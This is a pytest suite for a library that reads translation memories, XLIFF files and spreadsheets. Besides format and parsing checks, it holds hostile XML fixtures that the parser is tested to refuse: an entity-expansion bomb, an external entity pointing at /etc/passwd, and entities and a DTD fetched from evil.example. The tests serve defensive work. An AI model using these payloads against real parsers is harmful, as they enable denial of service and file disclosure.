"""Translation memories, XLIFF and spreadsheets: what a localisation team has."""

import gzip
import resource
import subprocess
import sys
import textwrap
from importlib.util import find_spec

import pytest

from corpus import samples
from tertium.corpus.formats import kind_of, open_references, open_systems
from tertium.errors import InputError, MissingExtraError, TertiumError, UnknownNameError
from tertium.files import markup

needs_sheets = pytest.mark.skipif(find_spec("python_calamine") is None, reason="python-calamine is not installed")


@pytest.fixture
def files(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name, data in samples.files().items():
        (tmp_path / name).write_bytes(data)
    return tmp_path


def texts(argument, warnings=None):
    (file,) = open_references(argument, kind=None, warn=(warnings if warnings is not None else []).append)
    found = []
    while count := len(block := file.take(4)):
        found += [block[i] for i in range(count)]
    return found


def single(argument, warnings=None):
    return [text for (text,) in texts(argument, warnings)]


@pytest.mark.parametrize(
    ("argument", "expected"),
    [
        ("memory.tmx:xx", samples.HYPOTHESES),
        ("memory.tmx:yy", samples.FIRST),
        ("memory.tmx:yy-YY", samples.FIRST),
        ("memory.tmx:YY-yy", samples.FIRST),
        ("memory.tmx:zz+xx", samples.SECOND),
        ("job.xlf:source", samples.FIRST),
        ("job.xlf:target", samples.SECOND),
        ("job.xlf:alternative", samples.HYPOTHESES),
        ("job.xlf:edited@final", samples.SECOND),
        ("job2.xlf:source", samples.FIRST),
        ("job2.xlf:target@final", samples.SECOND),
        ("job2.xlf:alternative", samples.HYPOTHESES),
        pytest.param("sheet.xlsx:sys", samples.HYPOTHESES, marks=needs_sheets),
        pytest.param("sheet.xlsx:First!two", samples.SECOND, marks=needs_sheets),
        pytest.param("sheet.ods:one", samples.FIRST, marks=needs_sheets),
    ],
)
def test_texts_are_what_was_written(files, argument, expected):
    assert single(argument) == expected


def test_a_format_is_told_by_its_content(files):
    for name, kind in (("memory.tmx", "tmx"), ("job.xlf", "xliff"), ("job2.xlf", "xliff")):
        (files / "unnamed").write_bytes((files / name).read_bytes())
        assert kind_of("unnamed", "x") == kind
    (files / "memory.tmx.gz").write_bytes(gzip.compress((files / "memory.tmx").read_bytes()))
    assert single("memory.tmx.gz:xx") == samples.HYPOTHESES
    utf16 = (files / "memory.tmx").read_text(encoding="utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    (files / "wide.tmx").write_bytes(utf16.encode("utf-16"))
    assert single("wide.tmx:xx") == samples.HYPOTHESES


def tmx(*units, head=""):
    body = "".join(
        "<tu>" + "".join(f'<tuv xml:lang="{lang}"><seg>{text}</seg></tuv>' for lang, text in unit) + "</tu>\n"
        for unit in units
    )
    return f'{head}<tmx version="1.4"><header/><body>\n{body}</body></tmx>\n'


def test_units_of_a_memory(files):
    (files / "a.tmx").write_text(
        tmx(
            [("en", "Press <bpt>&lt;b></bpt>Start<ept/>, <hi>now</hi><ph>x<sub>y</sub>z</ph>."), ("de", "Jetzt"), ("de", "Nun")],
            [("en", "Wait"), ("de", "")],
            [("en", "Go"), ("fr", "Va")],
        )
    )  # fmt: skip
    assert single("a.tmx:en") == ["Press Start, now.", "Wait", "Go"]
    warnings = []
    assert texts("a.tmx:de+en", warnings) == [["Jetzt", "Nun"], [""]]
    assert warnings == ["a.tmx: 1 of 3 units lack one of de+en, and are left out."]
    with pytest.raises(InputError, match=r"a.tmx, line 4: this unit has no 'de' \(it has en, fr\)"):
        texts("a.tmx:de")
    with pytest.raises(UnknownNameError, match="No language of a.tmx is called 'it'"):
        texts("a.tmx:it+en")
    with pytest.raises(InputError, match="name a language, a.tmx:LANGUAGE. It has: en, de, fr"):
        open_systems("a.tmx", kind=None, warn=print)
    (files / "b.tmx").write_text(tmx([("de-AT", "a"), ("en", "b")], [("de-DE", "a"), ("en", "b")]))
    with pytest.raises(InputError, match="line 3: 'de' could be de-AT or de-DE"):
        texts("b.tmx:de")
    (files / "c.tmx").write_text(tmx([("de-x-mt", "a"), ("de-DE", "b")]))
    assert (single("c.tmx:de"), single("c.tmx:de-x-mt")) == (["b"], ["a"])  # a private variant is another thing


XLIFF = textwrap.dedent("""\
    <xliff version="1.2"><file original="a"><body>
    <trans-unit id="1"><source>Press <g id="1">Start</g>.</source><target state="final">Start <x id="2"/>drücken.</target>
    <alt-trans origin="MT" match-quality="80"><source>x</source><target>Drücken <bpt id="1">c</bpt>Start.</target></alt-trans>
    <alt-trans origin="TM"><target>second</target></alt-trans></trans-unit>
    <trans-unit id="2"><source>A. B.</source>
    <seg-source><mrk mtype="seg" mid="1">A.</mrk> <mrk mtype="seg" mid="2">B <mrk mtype="term">t</mrk>.</mrk></seg-source>
    <target state="translated"><mrk mtype="seg" mid="2">Be.</mrk> <mrk mtype="seg" mid="1">Ah.</mrk></target>
    <alt-trans mid="2"><target>Bee</target></alt-trans></trans-unit>
    <group translate="no"><trans-unit id="3"><source>not this</source></trans-unit></group>
    <trans-unit id="4" translate="no"><source>nor this</source></trans-unit>
    <trans-unit id="5"><source>later</source></trans-unit>
    </body></file></xliff>
    """)


def test_segments_alternatives_and_states(files):
    (files / "a.xlf").write_text(XLIFF)
    assert single("a.xlf:source") == ["Press Start.", "A.", "B t.", "later"]
    assert single("a.xlf:target@final+translated") == ["Start drücken.", "Ah.", "Be."]
    warnings = []
    assert single("a.xlf:alternative", warnings) == ["Drücken Start.", "Bee"]
    assert single("a.xlf:source@none") == ["later"]
    assert single("a.xlf:edited") == ["Start drücken.", "Be."]
    assert warnings == ["a.xlf: 2 of 4 segments have no alternative or no target, and are left out."]
    with pytest.raises(InputError, match="a.xlf, line 11: this segment has no target"):
        texts("a.xlf:target")
    with pytest.raises(
        UnknownNameError, match="No state of segments in a.xlf is called 'done'.*Known: final, translated, none"
    ):
        texts("a.xlf:target@done")
    with pytest.raises(UnknownNameError, match="Known: source, target, alternative, edited"):
        texts("a.xlf:targets")


def test_xliff_2(files):
    (files / "a.xlf").write_text(
        '<xliff version="2.1" xmlns:m="urn:oasis:names:tc:xliff:matches:2.0"><file id="f"><unit id="u">'
        '<m:matches><m:match ref="#b"><source>x</source><target>machine</target></m:match></m:matches>'
        '<segment id="a" state="final"><source>One<cp hex="002B"/><ph id="1"/></source><target>Eins <pc id="2">a</pc></target>'
        "</segment><ignorable><source> </source></ignorable>"
        '<segment id="b"><source>Two</source><target><mrk id="m">Zwei</mrk></target></segment></unit></file></xliff>'
    )
    assert single("a.xlf:source") == ["One+", "Two"]
    assert single("a.xlf:target") == ["Eins a", "Zwei"]
    assert (single("a.xlf:target@final"), single("a.xlf:target@initial")) == (["Eins a"], ["Zwei"])
    assert (single("a.xlf:alternative"), single("a.xlf:edited")) == (["machine"], ["Zwei"])


LAUGHS = (
    '<!DOCTYPE tmx [<!ENTITY a "ha"><!ENTITY b "'
    + "&a;" * 50 + '"><!ENTITY c "' + "&b;" * 50 + '"><!ENTITY d "' + "&c;" * 50 + '">]>'
)  # fmt: skip


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (tmx([("en", "&d;")], head=LAUGHS), "line 1 declares an entity"),
        (tmx([("en", "&x;")], head='<!DOCTYPE tmx [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "declares an entity"),
        (
            tmx([("en", "a")], head='<!DOCTYPE tmx [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'),
            "declares an entity",
        ),
        (tmx([("en", "&x;")], head='<!DOCTYPE tmx SYSTEM "http://evil.example/tmx14.dtd">'), "uses the entity '&x;'"),
        (tmx([("en", "&x;")]), "no well-formed XML"),
        (tmx([("en", "<a>" * 600 + "</a>" * 600)]), "more than 500 elements inside each other"),
        (tmx([("en", "a")])[:-9], "no well-formed XML"),
        ("", "no well-formed XML"),
        ("<html/>", "has <html>, but a translation memory"),
        ('<?xml version="1.0" encoding="klingon"?><tmx/>', "no "),
        ("<tmx><body><tu><tuv><seg>a</seg></tuv></tu></body></tmx>", "without a language"),
        ("<tmx><body><seg>a</seg></body></tmx>", "outside of any <tuv>"),
        ("\x00\x01", "no well-formed XML"),
    ],
)
def test_hostile_and_broken_memories_are_refused(files, content, reason):
    (files / "a.tmx").write_text(content)
    with pytest.raises(TertiumError, match=reason):
        texts("a.tmx:en")


def test_entities_are_refused_in_other_xml(files):
    (files / "a.xlf").write_text(LAUGHS.replace("tmx", "xliff") + XLIFF)
    with pytest.raises(InputError, match="declares an entity"):
        texts("a.xlf:source")
    (files / "set.xml").write_text(LAUGHS.replace("tmx", "dataset") + "<dataset/>")
    with pytest.raises(InputError, match="declares entities"):
        texts("set.xml")


def test_a_text_without_end_is_refused(files, monkeypatch):
    monkeypatch.setattr(markup, "LONGEST", 1000)
    (files / "a.tmx").write_text(tmx([("en", "word " * 300)]))
    with pytest.raises(InputError, match="which no segment is"):
        texts("a.tmx:en")


@needs_sheets
def test_what_is_wrong_with_a_sheet_is_told(files):
    with pytest.raises(UnknownNameError, match="No column of sheet.xlsx is called 'syss'. Did you mean 'sys'"):
        texts("sheet.xlsx:syss")
    with pytest.raises(UnknownNameError, match="No sheet of sheet.ods is called 'Second'"):
        texts("sheet.ods:Second!sys")
    with pytest.raises(InputError, match="name a column, sheet.ods:COLUMN. It has: doc, sys, one, two"):
        texts("sheet.ods")
    (files / "bad.xlsx").write_bytes(b"PK\x03\x04 and so on")
    with pytest.raises(InputError, match="is no spreadsheet that can be read"):
        texts("bad.xlsx:a")
    with pytest.raises(InputError, match="missing.xlsx cannot be read"):
        texts("missing.xlsx:a")


def test_the_package_for_sheets_is_named(files, monkeypatch):
    monkeypatch.setitem(sys.modules, "python_calamine", None)
    with pytest.raises(MissingExtraError, match=r"tertium\[sheets\]"):
        texts("sheet.xlsx:sys")


@pytest.mark.long
def test_a_large_memory_takes_little_memory(tmp_path):
    """1 GB of TMX, compressed so that it need not lie on the disk."""
    unit = '<tu><tuv xml:lang="en"><seg>{0} boats leave {1}</seg></tuv><tuv xml:lang="de"><seg>{0} Boote {1}</seg></tuv></tu>\n'
    block = "".join(unit.format(i, "at seven in the morning " * 20) for i in range(1000)).encode()
    count = (1 << 30) // len(block) + 1
    with gzip.open(tmp_path / "large.tmx.gz", "wb", compresslevel=1) as file:
        file.write(b'<?xml version="1.0"?>\n<tmx version="1.4"><header/><body>\n')
        for _ in range(count):
            file.write(block)
        file.write(b"</body></tmx>\n")
    code = (
        "import resource, sys\n"
        "from tertium.corpus.formats import open_references\n"
        "(file,) = open_references(sys.argv[1] + ':de', kind=None, warn=print)\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "print(file.count_rest(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    said = subprocess.run(
        [sys.executable, "-c", code, tmp_path / "large.tmx.gz"], capture_output=True, text=True, check=True
    )
    segments, grown = map(int, said.stdout.split())
    assert segments == 1000 * count
    assert grown < 200_000  # KiB
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss > 0
